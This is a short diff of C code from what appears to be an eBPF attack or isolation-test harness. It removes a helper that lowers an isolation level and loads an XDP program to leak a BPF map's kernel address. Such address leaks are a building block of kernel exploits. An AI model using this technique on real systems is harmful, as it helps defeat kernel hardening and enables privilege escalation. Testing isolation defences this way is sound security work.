@@ -13,30 +13,6 @@
 #include <unistd.h>
 #include "attack.h"
 
-/* The address of the map itself, from a program that is not isolated. */
-static u64 map_address(int map)
-{
-	int out = array_of(8);
-	struct bpf_insn insns[] = {
-		LD_MAP_FD(R1, map),
-		LD_MAP_VALUE(R2, out, 0),
-		STX(BPF_DW, R2, R1, 0),
-		MOV_IMM(R0, 0),
-		EXIT(),
-	};
-	int fd, now = level;
-	u64 addr;
-
-	moat_set_level(0);
-	fd = load(&xdp, "tell", insns, ARRAY_SIZE(insns));
-	prog_run_once(fd);
-	moat_set_level(now);
-	addr = slot(out, 0);
-	close(fd);
-	close(out);
-	return addr;
-}
-
 static int hash;
 
 static bool loot_is_set(struct run *run, const void *arg)
